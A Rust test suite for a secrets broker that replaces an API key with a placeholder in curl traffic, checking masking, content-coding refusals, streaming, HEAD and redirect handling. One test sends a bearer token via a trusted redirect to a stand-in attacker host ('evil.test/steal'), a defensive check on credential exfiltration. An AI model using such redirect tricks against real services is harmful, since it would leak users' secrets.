//! What comes back from a host: streamed as it comes, and without the value.

use std::io::{Read, Write};
use std::process::Stdio;
use std::sync::mpsc;

use flate2::Compression;
use flate2::write::GzEncoder;
use hyper::Response;
use hyper::ext::ReasonPhrase;
use secretsd_tests::ctl::CtlOutput;
use secretsd_tests::{canary, process};
use serde_json::Value;

use crate::world::{VALUE, World};

fn world(test: &str) -> Option<World> {
    let world = World::new(test)?;
    world.rule(&["--host", &world.host()]);
    Some(world)
}

#[test]
fn a_value_that_is_echoed_comes_back_as_its_placeholder() {
    let Some(world) = world("a_value_that_is_echoed_comes_back_as_its_placeholder") else { return };
    // As much of the placeholder as the value is long, or stars behind it: lengths stay true.
    let masked = |output: &CtlOutput| {
        let placeholder = output.err().lines().last().unwrap().to_owned();
        assert!(placeholder.starts_with("sk-proj-ssdph"), "{placeholder}");
        let mask: String = placeholder.chars().chain(std::iter::repeat('*')).take(VALUE.len()).collect();
        format!("Bearer {mask}")
    };
    let told = "echo $KEY >&2";
    for version in ["--http1.1", "--http2"] {
        for path in ["echo", "gzip", "zlib", "deflate", "chunks"] {
            let url = world.url(&format!("/v1/{path}"));
            let script = format!("curl -sS {version} -H \"Authorization: Bearer $KEY\" {url}; {told}");
            let output = world.run(&["sh", "-c", &script]);
            world.assert_nowhere(&output);
            let echo: Value = serde_json::from_slice(&output.stdout)
                .unwrap_or_else(|error| panic!("{path}: {error}: {}{}", output.out(), output.err()));
            assert!(echo["headers"].as_str().unwrap().contains(&masked(&output)), "{path} {echo}");
            let seen = world.origin.last();
            assert_eq!(seen.header("authorization"), Some(format!("Bearer {VALUE}").as_str()));
            assert_eq!(seen.header("accept-encoding"), Some("identity"));
        }
        for (path, header) in [("header", "x-echo"), ("trailers", "x-echo")] {
            let url = world.url(&format!("/v1/{path}"));
            let script = format!(
                "curl -sSv --raw {version} -H TE:trailers -H \"Authorization: Bearer $KEY\" {url} 2>&1; {told}"
            );
            let output = world.run(&["sh", "-c", &script]);
            world.assert_nowhere(&output);
            assert!(
                output.out().contains(&format!("{header}: {}", masked(&output))),
                "{path} {version}: {}",
                output.out()
            );
            assert!(!output.out().contains("x-secretsd-denied: "), "{}", output.out());
        }
    }
}

#[test]
fn what_cannot_be_looked_into_is_refused() {
    let Some(world) = world("what_cannot_be_looked_into_is_refused") else { return };
    let script = format!("curl -sS -H \"Authorization: Bearer $KEY\" {}", world.url("/v1/brotli"));
    let error = world.run(&["sh", "-c", &script]).json();
    assert_eq!((&error["code"], &error["errors"][0]["type"]), (&502.into(), &"content_coding".into()));
    // Without a value it may come as it likes.
    let script = format!("curl -sS {} | wc -c", world.url("/v1/brotli"));
    assert_eq!(world.run(&["sh", "-c", &script]).out().trim(), "10");
}

#[test]
fn nothing_around_the_body_holds_the_value_or_speaks_for_the_broker() {
    let test = "nothing_around_the_body_holds_the_value_or_speaks_for_the_broker";
    for protocol in ["http/1.1", "h2"] {
        let Some(world) = World::with(test, &[protocol]) else { return };
        world.rule(&["--host", &world.host()]);
        world.origin.answer_by(|seen, _| {
            let mut response = Response::builder()
                .status(401)
                .header("x-secretsd-denied", "KEY/1")
                .header(format!("X-{VALUE}"), "1")
                .header(format!("X-{}", VALUE.to_uppercase()), "1")
                .body(b"{}".to_vec())
                .unwrap();
            let said = format!("bad token {}", seen.header("authorization").unwrap_or("none"));
            response.extensions_mut().insert(ReasonPhrase::try_from(said.into_bytes()).unwrap());
            Some(response)
        });
        let url = world.url("/v1/echo");
        let script = format!(
            "curl -sSi --suppress-connect-headers --http1.1 -H \"Authorization: Bearer $KEY\" {url}; curl -sSi --suppress-connect-headers {url}"
        );
        let output = world.run(&["sh", "-c", &script]);
        let out = output.out();
        let carried = out.split("HTTP/").nth(1).unwrap_or_default().to_lowercase();
        assert!(carried.contains("401") && !carried.contains(VALUE), "{out}{}", output.err());
        assert!(!out.contains("x-secretsd-denied"), "{out}");
    }
}

#[test]
fn an_answer_in_two_codings_is_refused() {
    let Some(world) = World::with("an_answer_in_two_codings_is_refused", &["http/1.1"]) else { return };
    world.rule(&["--host", &world.host()]);
    world.origin.answer_by(|seen, _| {
        let (_, fields) = seen.line.split_once('?')?;
        let mut body = seen.headers.clone().into_bytes();
        let mut response = Response::builder();
        for field in fields.split('&') {
            let (name, coding) = field.split_once('=')?;
            response = response.header(name, coding);
            if coding.starts_with("gzip") {
                let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
                encoder.write_all(&body).ok()?;
                body = encoder.finish().ok()?;
            }
        }
        response.body(body).ok()
    });
    for (fields, code) in [
        ("content-encoding=identity&content-encoding=gzip", "200"),
        ("content-encoding=gzip&content-encoding=identity", "200"),
        ("content-encoding=gzip&content-encoding=gzip", "502"),
        ("content-encoding=gzip&content-encoding=br", "502"),
        ("content-encoding=identity&content-encoding=br", "502"),
        ("content-encoding=gzip,deflate", "502"),
        ("transfer-encoding=gzip,chunked", "502"),
    ] {
        let url = world.url(&format!("/v1/x?{fields}"));
        let script = format!(
            "curl -sS -w '%{{http_code}}' -H \"Authorization: Bearer $KEY\" '{url}' > out; cat out; gunzip < out; gunzip < out | gunzip; true"
        );
        let output = world.run(&["sh", "-c", &script]);
        world.assert_nowhere(&output);
        let out = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(out.contains(code), "{fields}: {out}");
        assert!(
            if code == "502" { out.contains("\"content_coding\"") } else { out.contains("sk-proj-ssdph") },
            "{fields}: {out}"
        );
    }
}

#[test]
fn an_event_is_shown_before_the_next_one_is_there() {
    let Some(world) = world("an_event_is_shown_before_the_next_one_is_there") else { return };
    let script = format!("exec curl -sSN -H \"Authorization: Bearer $KEY\" {}", world.url("/v1/events"));
    let mut command = world.command_with(&["-s", "KEY"], &["sh", "-c", &script]);
    let mut curl = command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
    let mut out = curl.stdout.take().unwrap();
    let (tell, told) = mpsc::channel();
    let reader = std::thread::spawn(move || {
        let mut byte = [0];
        while out.read(&mut byte).unwrap() == 1 && tell.send(byte[0]).is_ok() {}
    });
    for number in 1..=3 {
        world.origin.let_one_event_go();
        for byte in format!("data: {number} s\n\n").into_bytes() {
            // Were it held back until the next event, it would never come.
            assert_eq!(told.recv_timeout(process::DEADLINE), Ok(byte), "of event {number}");
        }
    }
    reader.join().unwrap();
    assert!(process::wait(&mut curl, process::DEADLINE).success());
}

#[test]
fn a_large_answer_arrives_whole() {
    let Some(world) = world("a_large_answer_arrives_whole") else { return };
    let url = world.url("/v1/large");
    for (version, header) in [("--http1.1", ""), ("--http2", ""), ("--http1.1", "1"), ("--http2", "1")] {
        let header = if header.is_empty() { "" } else { "-H \"Authorization: Bearer $KEY\"" };
        let output =
            world.run(&["sh", "-c", &format!("curl -sS {version} {header} {url} | tr -d x | wc -c")]);
        assert_eq!(output.out().trim(), "0");
        let output = world.run(&["sh", "-c", &format!("curl -sS {version} {header} {url} | wc -c")]);
        assert_eq!(output.out().trim(), (160 * 65_536).to_string(), "{version} {header}");
    }
}

#[test]
fn an_answer_to_head_has_no_body_over_both_versions() {
    let Some(world) = world("an_answer_to_head_has_no_body_over_both_versions") else { return };
    for version in ["--http1.1", "--http2"] {
        for (header, status) in [("Authorization: Bearer", "200"), ("X-Other:", "403")] {
            let url = world.url("/v1/echo");
            let form = "-o /dev/null -w '%{http_code}'";
            let script = format!("curl -sS --head {version} {form} -H \"{header} $KEY\" {url}");
            let output = world.run(&["sh", "-c", &script]);
            assert_eq!((output.code, output.out().as_str()), (Some(0), status), "{version} {}", output.err());
        }
    }
}

#[test]
fn a_redirect_is_followed_by_the_program_and_judged_again() {
    let Some(world) = world("a_redirect_is_followed_by_the_program_and_judged_again") else { return };
    let to = format!("{}?to={}", world.url("/v1/redirect"), world.evil_url("/steal"));
    let script = format!("curl -sSL --location-trusted -H \"Authorization: Bearer $KEY\" '{to}'");
    let output = world.run(&["sh", "-c", &script]);
    assert_eq!(output.json()["errors"][0]["type"], "host_not_allowed", "{}", output.out());
    assert!(world.evil.seen().is_empty());
    // Let through, it gets the placeholder, which is worth nothing.
    let evil = format!("evil.test:{}", world.evil.port);
    let output = world.run_with(&["-s", "KEY", "--allow", &evil], &["sh", "-c", &script]);
    assert_eq!(output.code, Some(0), "{}", output.err());
    let seen = world.evil.last();
    assert!(seen.header("authorization").unwrap().starts_with("Bearer sk-proj-ssdph"));
    assert_eq!(canary::find(seen.whole().as_bytes(), VALUE), None);
}
